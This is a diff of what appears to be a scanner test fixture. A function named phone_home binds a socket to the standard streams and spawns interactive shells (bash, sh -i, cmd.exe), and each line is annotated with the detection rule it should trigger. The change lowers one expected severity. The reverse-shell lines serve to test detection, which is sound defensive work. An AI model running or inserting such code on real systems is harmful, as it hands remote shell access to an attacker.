@@ -10,7 +10,7 @@ def phone_home(host, port):
     [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
     pty.spawn("/bin/bash")  # expect: cmd-reverse-shell@high
     subprocess.call(["/bin/sh", "-i"])  # expect: cmd-reverse-shell@high, cmd-subprocess-dyn@info
-    os.system("/bin/sh -i")  # expect: cmd-reverse-shell@high, cmd-os-system@low
+    os.system("/bin/sh -i")  # expect: cmd-reverse-shell@high, cmd-os-system@info
     os.execl("/bin/sh", "sh", "-i")  # expect: cmd-reverse-shell@high, cmd-os-exec-spawn@info
     # expect: cmd-reverse-shell@high, cmd-subprocess-dyn@info
     subprocess.Popen(["cmd.exe"], stdin=s, stdout=s)  # expect: cmd-partial-path
